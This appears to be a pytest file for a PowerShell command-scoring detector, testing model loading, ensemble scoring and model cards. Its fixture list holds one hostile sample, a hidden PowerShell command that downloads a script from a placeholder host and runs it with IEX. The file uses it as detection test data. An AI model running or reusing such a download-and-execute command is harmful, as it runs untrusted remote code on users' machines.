import hashlib

import numpy as np
import pytest

from wheeltapper.errors import ConfigError
from wheeltapper.powershell import models
from wheeltapper.powershell.views import view

LINES = [
    "Get-ChildItem C:\\logs | Where-Object Length -gt 1000 | Remove-Item",
    "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"",
    "",
    "Get-Service; " * 2000,
]
PAIRS = [(one.raw, one.plain) for one in map(view, LINES)]


@pytest.mark.parametrize("name", models.shipped())
def test_a_score_does_not_depend_on_what_is_scored_beside_it(name):
    model = models.load(name)
    together = model.score(PAIRS)
    alone = np.concatenate([model.score([pair]) for pair in PAIRS])
    np.testing.assert_allclose(together, alone, atol=1e-3)
    assert model.score([]).shape == (0,)


@pytest.mark.parametrize("name", models.shipped())
def test_a_download_that_is_run_looks_worse_than_a_clean_up(name):
    scores = models.load(name).score(PAIRS)
    assert scores[1] > scores[0]


def test_every_model_that_has_a_name_is_shipped():
    assert models.shipped() == list(models.NAMES)


def test_the_ensemble_is_the_sum():
    parts = [models.load(name).score(PAIRS) for name in models.load().card.parts]
    np.testing.assert_allclose(models.load().score(PAIRS), np.sum(parts, axis=0), rtol=1e-6)


def test_all_that_is_shipped_is_small_and_has_a_card():
    files = sorted(models.SHIPPED.iterdir())
    assert sum(path.stat().st_size for path in files) < 20_000_000
    assert {p.stem for p in files} == {*models.shipped(), "known"}
    for name in models.shipped():
        card = models.load(name).card
        assert set(card.thresholds) == {"1e-1", "1e-2", "1e-3"}
        assert card.thresholds["1e-3"] > card.thresholds["1e-2"]
        assert len(card.data_sha256) == 64


def test_an_unknown_name_is_told_what_there_is():
    with pytest.raises(ConfigError, match="there are: ensemble, branches"):
        models.load("oracle")


def test_a_model_that_is_not_there_is_told_how_to_make(tmp_path):
    for name in models.NAMES:
        with pytest.raises(ConfigError, match="make models"):
            models.load(name, tmp_path)
    assert models.shipped(tmp_path) == []


def test_a_file_of_another_model_is_refused(tmp_path):
    for path in models.SHIPPED.iterdir():
        (tmp_path / path.name).write_bytes(path.read_bytes())
    (tmp_path / "words.npy").write_bytes(models.path_of("traditional").read_bytes())
    with pytest.raises(ConfigError, match=r"is not the model that words\.toml describes"):
        models.load("words", tmp_path)
    assert hashlib.sha256(b"").hexdigest() != models.load("words").card.sha256
